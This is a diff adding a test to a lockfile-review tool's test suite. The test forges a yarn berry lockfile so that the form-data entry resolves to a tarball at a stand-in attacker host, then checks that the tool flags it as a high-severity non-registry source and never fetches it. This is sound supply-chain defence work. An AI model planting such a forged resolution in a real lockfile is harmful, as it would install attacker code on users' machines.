@@ -3,7 +3,8 @@
  * (examples/<scenario>/formats/yarn-berry/, scripts/make-fixtures-yarn-berry.mjs): the signals fire
  * as they do on the npm lockfile of the same scenario.
  */
-import { readFile } from 'node:fs/promises';
+import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import os from 'node:os';
 import path from 'node:path';
 import { main } from '../../src/cli/main.js';
 import { startFixtureRegistry } from '../../src/demo/fixture-registry.js';
@@ -67,5 +68,25 @@ describe.each(['axios', 'event-stream'])('yarn berry lockfiles of the %s scenari
     // lines point at the entry keys of the yarn.lock
     const text = (await readFile(yarn('head'), 'utf8')).split('\n');
     for (const c of fromYarn.changes) if (c.kind !== 'removed') expect(text[c.line - 1]).toMatch(new RegExp(`^"${c.name.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}@npm:[^"]*":$`));
+  });
+});
+
+describe('lockfile injection in a yarn berry lockfile', () => {
+  it('a registry package swapped for a tarball URL at the same version is a high non-registry-source change, never fetched', async () => {
+    const dir = path.join(root, 'examples', 'axios');
+    const meta = JSON.parse(await readFile(path.join(dir, 'scenario.json'), 'utf8')) as { now: string };
+    const head = await readFile(path.join(dir, 'formats', 'yarn-berry', 'head', 'yarn.lock'), 'utf8');
+    const forged = head.replace('resolution: "form-data@npm:4.0.5"', 'resolution: "form-data@https://attacker.invalid/payload.tgz"');
+    expect(forged).not.toBe(head);
+    const tmp = await mkdtemp(path.join(os.tmpdir(), 'lw-berry-'));
+    await writeFile(path.join(tmp, 'yarn.lock'), forged);
+    const before = registry.requests.length;
+    const report = await review(path.join(dir, 'formats', 'yarn-berry', 'base', 'yarn.lock'), path.join(tmp, 'yarn.lock'), meta.now);
+    const c = report.changes.find((x) => x.name === 'form-data')!;
+    expect(c).toMatchObject({ from: '4.0.5', to: '4.0.5', kind: 'source-changed', severity: 'high' });
+    expect(c.findings.map((f) => f.signal)).toContain('non-registry-source');
+    // only the configured registry was asked (for names), never the lockfile's URL host
+    for (const r of registry.requests.slice(before)) expect(JSON.stringify(r)).not.toContain('payload.tgz');
+    expect(forged.split('\n')[c.line - 1]).toBe('"form-data@npm:^4.0.5":');
   });
 });
